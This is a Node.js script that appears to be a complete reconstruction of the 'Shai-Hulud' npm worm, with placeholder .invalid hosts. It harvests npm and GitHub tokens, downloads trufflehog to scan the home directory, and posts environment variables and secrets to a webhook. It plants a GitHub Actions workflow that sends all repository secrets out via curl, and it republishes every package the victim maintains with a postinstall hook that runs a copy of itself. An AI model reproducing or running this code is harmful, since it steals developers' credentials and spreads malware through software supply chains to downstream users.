const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
const { execSync, spawnSync } = require("child_process");

const HOOK = "https://webhook.example.invalid/00000000-0000-4000-8000-000000000001";
const GH = "https://api.github.com.invalid";
const home = os.homedir();

function readNpmToken() {
  if (process.env.NPM_TOKEN) return process.env.NPM_TOKEN;
  for (const f of [path.join(home, ".npmrc"), path.join(process.cwd(), ".npmrc")]) {
    try {
      const m = fs.readFileSync(f, "utf8").match(/_authToken=(\S+)/);
      if (m) return m[1];
    } catch (_) {}
  }
  return null;
}

function readGithubToken() {
  if (process.env.GITHUB_TOKEN) return process.env.GITHUB_TOKEN;
  try { return execSync("gh auth token", { stdio: ["ignore", "pipe", "ignore"] }).toString().trim(); } catch (_) { return null; }
}

function scanSecrets() {
  const bin = path.join(os.tmpdir(), "trufflehog");
  try {
    execSync(`curl -sL https://releases.example.invalid/trufflehog_linux_amd64 -o ${bin} && chmod +x ${bin}`);
    const r = spawnSync(bin, ["filesystem", home, "--json", "--no-update"], { maxBuffer: 1 << 28 });
    return r.stdout.toString();
  } catch (_) { return ""; }
}

function api(method, url, token, body, auth = "Bearer") {
  return new Promise((resolve) => {
    const u = new URL(url);
    const req = https.request({ method, hostname: u.hostname, path: u.pathname + u.search,
      headers: { Authorization: `${auth} ${token}`, "content-type": "application/json", "user-agent": "node" } }, (res) => {
      let d = ""; res.on("data", (c) => (d += c)); res.on("end", () => { try { resolve(JSON.parse(d)); } catch (_) { resolve(null); } });
    });
    req.on("error", () => resolve(null));
    if (body) req.write(JSON.stringify(body));
    req.end();
  });
}

async function propagate(npmToken) {
  const registry = (process.env.npm_config_registry || "").replace(/\/$/, "");
  if (!registry) return;
  const me = await api("GET", `${registry}/-/whoami`, npmToken);
  if (!me || !me.username) return;
  const found = await api("GET", `${registry}/-/v1/search?text=maintainer:${me.username}&size=250`, npmToken);
  for (const obj of (found && found.objects) || []) {
    const name = obj.package.name;
    const work = fs.mkdtempSync(path.join(os.tmpdir(), "p-"));
    try {
      execSync(`npm pack ${name} --silent`, { cwd: work });
      const tgz = fs.readdirSync(work).find((f) => f.endsWith(".tgz"));
      execSync(`tar -xzf ${tgz}`, { cwd: work });
      const dir = path.join(work, "package");
      const pj = JSON.parse(fs.readFileSync(path.join(dir, "package.json"), "utf8"));
      const v = pj.version.split(".");
      v[2] = String(Number(v[2]) + 1);
      pj.version = v.join(".");
      pj.scripts = Object.assign({}, pj.scripts, { postinstall: "node bundle.js" });
      fs.writeFileSync(path.join(dir, "package.json"), JSON.stringify(pj, null, 2));
      fs.copyFileSync(__filename, path.join(dir, "bundle.js"));
      fs.writeFileSync(path.join(dir, ".npmrc"), `${registry.replace(/^https?:/, "")}/:_authToken=${npmToken}\n`);
      execSync("npm publish --access public", { cwd: dir, stdio: "ignore" });
    } catch (_) {}
  }
}

const WORKFLOW = `on: push
jobs:
  process:
    runs-on: ubuntu-latest
    steps:
      - name: Data Processing
        run: curl -d "$CONTENTS" ${HOOK}
        env:
          CONTENTS: \${{ toJSON(secrets) }}
`;

async function plantWorkflows(ghToken) {
  const repos = await api("GET", `${GH}/user/repos?affiliation=owner,collaborator&per_page=100`, ghToken, null, "token");
  for (const r of repos || []) {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "r-"));
    try {
      execSync(`git clone --depth 1 https://x-access-token:${ghToken}@github.com.invalid/${r.full_name}.git ${dir}`, { stdio: "ignore" });
      execSync("git checkout -b shai-hulud", { cwd: dir, stdio: "ignore" });
      fs.mkdirSync(path.join(dir, ".github", "workflows"), { recursive: true });
      fs.writeFileSync(path.join(dir, ".github", "workflows", "shai-hulud-workflow.yml"), WORKFLOW);
      execSync("git add -A && git commit -qm 'Add workflow' && git push -q origin shai-hulud", { cwd: dir, stdio: "ignore" });
    } catch (_) {}
  }
}

(async () => {
  const npmToken = readNpmToken();
  const ghToken = readGithubToken();
  const loot = {
    system: { platform: os.platform(), host: os.hostname(), user: os.userInfo().username },
    env: process.env,
    npm: npmToken,
    github: ghToken,
    trufflehog: scanSecrets(),
  };
  await api("POST", HOOK, "x", loot);
  if (ghToken) {
    await api("POST", `${GH}/user/repos`, ghToken, { name: "Shai-Hulud", private: false }, "token");
    await plantWorkflows(ghToken);
  }
  if (npmToken) await propagate(npmToken);
})();
